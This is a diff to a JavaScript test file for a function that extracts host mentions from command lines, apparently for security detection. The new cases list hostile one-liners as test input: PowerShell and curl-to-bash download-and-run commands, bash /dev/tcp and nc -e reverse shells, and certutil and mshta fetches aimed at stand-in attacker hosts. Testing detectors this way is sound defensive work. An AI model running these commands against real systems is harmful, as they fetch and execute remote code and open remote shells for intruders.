@@ -66,6 +66,23 @@ describe('command lines', () => {
     ],
     ['nc 192.0.2.1 4444', ['192.0.2.1']],
     ['ssh root@192.0.2.1', []],
+    ['powershell -w h -c "iex(irm evil.example.com/run)"', ['evil.example.com/run']],
+    ['curl -sL evil.example.com:8080/a.sh | bash', ['evil.example.com:8080/a.sh']],
+    ['wget -q evil.azurewebsites.net', ['evil.azurewebsites.net']],
+    ['mshta evil.azurewebsites.net/x.hta', ['evil.azurewebsites.net/x.hta']],
+    ['bash -i >& /dev/tcp/192.0.2.9/4444 0>&1', ['192.0.2.9']],
+    ['exec 5<>/dev/tcp/c2.azurewebsites.net/443', ['c2.azurewebsites.net']],
+    ['nc -e /bin/sh c2.azurewebsites.net 4444', ['c2.azurewebsites.net']],
+    ['ssh -p 443 -R 1:localhost:22 t@c2.azurewebsites.net', ['c2.azurewebsites.net']],
+    ["New-Object System.Net.Sockets.TCPClient('c2.azurewebsites.net',4444)", ['c2.azurewebsites.net']],
+    ['certutil -urlcache -f evil.azurewebsites.net/a.zip C:\\x\\a.zip', ['evil.azurewebsites.net/a.zip']],
+    // Nothing here connects, or what has a dot is a file, a class, a call or a mailbox.
+    ['notepad.exe evil.azurewebsites.net.txt', []],
+    ['start evil.azurewebsites.net', []],
+    ['curl -o readme.md setup.py run.sh app.name data.zip', []],
+    ['python -c "import requests; requests.post(x); asyncio.run(y)" curl', []],
+    ['powershell [System.IO.File]::ReadAllText(1); irm $x.data.info', []],
+    ['curl -u a.person@corp.azurewebsites.net -T $env:COMPUTERNAME', []],
     ['tool --version=1.2.3.4 v1.2.3.4 Chrome/120.0.0.0', []],
     ['copy \\\\evil.example@80\\dav\\x.exe c:\\', ['evil.example']],
     ['rundll32.exe perfc.dat setup.exe a.b.c', []],
@@ -74,7 +91,14 @@ describe('command lines', () => {
   })
 
   it('is read in time that grows with its length only', () => {
-    const hostile = ['a.'.repeat(20_000), 'http://'.repeat(5_000), '1.'.repeat(20_000), '\\\\'.repeat(20_000)]
+    const hostile = [
+      ...[`curl ${'a.'.repeat(16_000)}`, `curl ${'a-'.repeat(16_000)}.`, `curl ${'a.com/'.repeat(5_000)}`],
+      ...[`ssh ${'a@'.repeat(16_000)}`, `nc ${'a@b.'.repeat(8_000)}`, '/dev/tcp/'.repeat(3_000)],
+      'a.'.repeat(20_000),
+      'http://'.repeat(5_000),
+      '1.'.repeat(20_000),
+      '\\\\'.repeat(20_000),
+    ]
     for (const text of hostile) expect(mentionsIn(text).length).toBeLessThanOrEqual(2000)
   })
 })
